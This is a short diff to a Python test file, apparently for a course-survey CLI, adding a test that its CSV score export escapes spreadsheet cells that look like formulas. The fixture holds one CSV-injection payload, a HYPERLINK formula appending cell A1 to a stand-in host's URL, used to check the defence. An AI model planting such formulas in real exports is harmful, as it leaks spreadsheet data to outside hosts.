@@ -373,3 +373,13 @@ def test_the_leader_id_in_a_pdf_is_random_kept_in_the_manifest_and_reused(
     monkeypatch.chdir(tmp_path)
     code, output = run("send", str(out), "--from", "Kursus <kursus@example.dk>")
     assert code == 0 and "would send to ida@example.dk" in output, output
+
+
+def test_score_csv_protects_formula_looking_texts_as_the_manifest_does(workbook: Callable[..., Path]) -> None:
+    survey = workbook([leader_row('=HYPERLINK("http://x.example/?"&A1,"klik")', "a@example.dk", 3)])
+    code, output = run("score", str(survey), "--format", "csv")
+    assert code == 0
+    [record] = list(csv.DictReader(output.splitlines()))
+    assert record["name"] == '\'=HYPERLINK("http://x.example/?"&A1,"klik")'
+    assert record["score_purpose"] == "50.0"
+    assert writer.csv_unsafe(record["name"]).startswith("=HYPERLINK(")
